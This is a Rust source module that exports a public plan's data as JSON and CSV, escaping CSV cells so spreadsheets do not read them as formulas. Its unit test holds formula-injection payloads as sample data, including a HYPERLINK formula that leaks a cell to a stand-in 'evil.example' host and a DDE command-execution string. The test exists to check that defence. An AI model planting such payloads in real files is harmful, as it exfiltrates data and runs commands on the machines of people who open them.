//! Open data: the whole plan as `data/plan.json`, and one row per programme
//! in `data/programs.csv`, both languages side by side.
//!
//! Text of a language that has no translation is left out of the JSON and
//! empty in the CSV, rather than filled with another language's words.

use std::collections::BTreeMap;

use serde::Serialize;

use crate::config::{Config, Lang};
use crate::load::Sources;
use crate::paths;
use crate::plan::model::*;
use crate::plan::{Page, PageId, Plan};
use crate::render::Output;

type PerLang = BTreeMap<String, String>;

/// A plan item as published: its id, title and URL in each language, then
/// the item's own fields as the model serializes them.
#[derive(Serialize)]
struct Item<'a, T: Serialize> {
    id: &'a str,
    title: PerLang,
    url: PerLang,
    #[serde(flatten)]
    facts: &'a T,
}

/// Titles and URLs of a page in each language it is written in.
fn titles_urls(config: &Config, sources: &Sources, page: &Page) -> (PerLang, PerLang) {
    let mut titles = PerLang::new();
    let mut urls = PerLang::new();
    for v in &page.versions {
        if v.translated
            && let Some(s) = v.source
        {
            titles.insert(v.lang.to_string(), sources.files[s].meta.title.clone());
        }
        urls.insert(
            v.lang.to_string(),
            config.permalink(&paths::encode(&v.path)),
        );
    }
    (titles, urls)
}

#[derive(Serialize)]
struct PlanOut<'a> {
    title: PerLang,
    languages: Vec<&'a str>,
    default_language: &'a str,
    pillars: Vec<Item<'a, Pillar>>,
    programmes: Vec<Item<'a, Programme>>,
    groups: &'a [Group],
    stakeholders: Vec<Item<'a, Stakeholder>>,
    events: Vec<Item<'a, TimelineEvent>>,
    news: Vec<Item<'a, NewsArticle>>,
}

pub fn plan_json(config: &Config, sources: &Sources, plan: &Plan) -> Output {
    let m = &plan.model;
    fn items<'a, T>(
        config: &Config,
        sources: &Sources,
        plan: &Plan,
        list: impl Iterator<Item = (&'a str, PageId, &'a T)>,
    ) -> Vec<Item<'a, T>>
    where
        T: Serialize + 'a,
    {
        list.map(|(id, page, facts)| {
            let (title, url) = titles_urls(config, sources, &plan.tree.pages[page]);
            Item {
                id,
                title,
                url,
                facts,
            }
        })
        .collect()
    }
    let out = PlanOut {
        title: config
            .language_config
            .iter()
            .map(|(l, c)| (l.to_string(), c.title.clone()))
            .collect(),
        languages: config.languages.iter().map(Lang::as_str).collect(),
        default_language: config.default_language.as_str(),
        pillars: items(
            config,
            sources,
            plan,
            m.pillars.iter().map(|p| (p.id.as_str(), p.page, p)),
        ),
        programmes: items(
            config,
            sources,
            plan,
            m.programmes.iter().map(|p| (p.id.as_str(), p.page, p)),
        ),
        groups: &m.groups,
        stakeholders: items(
            config,
            sources,
            plan,
            m.stakeholders.iter().map(|s| (s.id.as_str(), s.page, s)),
        ),
        events: items(
            config,
            sources,
            plan,
            m.events.iter().map(|e| (e.id.as_str(), e.page, e)),
        ),
        news: items(
            config,
            sources,
            plan,
            m.news.iter().map(|a| (a.id.as_str(), a.page, a)),
        ),
    };
    let mut bytes = serde_json::to_vec(&out).unwrap_or_default();
    bytes.push(b'\n');
    Output {
        path: paths::DATA_JSON.into(),
        bytes,
    }
}

/// One row per programme; titles in every language, empty where untranslated.
pub fn programmes_csv(config: &Config, sources: &Sources, plan: &Plan) -> Output {
    let mut header: Vec<String> = [
        "id",
        "pillar",
        "status",
        "quick_win",
        "start",
        "end",
        "lead",
        "partners",
        "budget_total",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    header.extend(config.languages.iter().map(|l| format!("title_{l}")));
    header.extend(config.languages.iter().map(|l| format!("url_{l}")));
    // Added after the first columns, so that readers by position keep working.
    header.extend(["illustrative", "overdue_milestones", "sources"].map(String::from));
    let mut csv = String::new();
    push_row(&mut csv, &header);
    for p in &plan.model.programmes {
        let (titles, urls) = titles_urls(config, sources, &plan.tree.pages[p.page]);
        let mut row = vec![
            p.id.to_string(),
            p.pillar.to_string(),
            p.status.as_str().to_string(),
            p.quick_win.to_string(),
            p.start.year.to_string(),
            p.end_year().to_string(),
            p.lead.to_string(),
            p.partners
                .iter()
                .map(|s| s.as_str())
                .collect::<Vec<_>>()
                .join(";"),
            p.budget_total.to_string(),
        ];
        row.extend(
            config
                .languages
                .iter()
                .map(|l| titles.get(l.as_str()).cloned().unwrap_or_default()),
        );
        row.extend(
            config
                .languages
                .iter()
                .map(|l| urls.get(l.as_str()).cloned().unwrap_or_default()),
        );
        row.push(p.illustrative.to_string());
        row.push(
            p.milestones
                .iter()
                .filter(|m| m.overdue)
                .count()
                .to_string(),
        );
        row.push(
            p.sources
                .iter()
                .map(|r| r.url.clone().unwrap_or_else(|| r.title.clone()))
                .collect::<Vec<_>>()
                .join(" ; "),
        );
        push_row(&mut csv, &row);
    }
    Output {
        path: paths::DATA_CSV.into(),
        bytes: csv.into_bytes(),
    }
}

/// One CSV row, as `data/programs.csv` writes it (for the fuzz target).
pub fn csv_row(fields: &[String]) -> String {
    let mut out = String::new();
    push_row(&mut out, fields);
    out
}

/// RFC 4180: fields with a comma, quote or line break are quoted. A field
/// that a spreadsheet would take as a formula (it starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return) gets a leading `'`, as OWASP advises, so
/// that opening the file never runs anything.
fn push_row(out: &mut String, fields: &[String]) {
    for (i, f) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let neutral;
        let f = if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            neutral = format!("'{f}");
            &neutral
        } else {
            f
        };
        if f.contains([',', '"', '\n', '\r']) {
            out.push('"');
            out.push_str(&f.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(f);
        }
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_what_needs_it() {
        let mut s = String::new();
        push_row(&mut s, &["a".into(), "b,c".into(), "say \"hi\"".into()]);
        assert_eq!(s, "a,\"b,c\",\"say \"\"hi\"\"\"\r\n");
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        let mut s = String::new();
        let cells = [
            "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Klik\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "-2+3",
            "\tx",
            "\rx",
            "ok",
        ];
        push_row(&mut s, &cells.map(String::from));
        let fields: Vec<&str> = s.trim_end().split(',').collect();
        assert!(s.starts_with("\"'=HYPERLINK("), "{s}");
        assert!(s.contains(",'+cmd|' /C calc'!A0,'@SUM(1+1),'-2+3,"), "{s}");
        assert!(s.contains("'\tx"), "{s:?}");
        assert!(fields.last() == Some(&"ok"));
    }
}
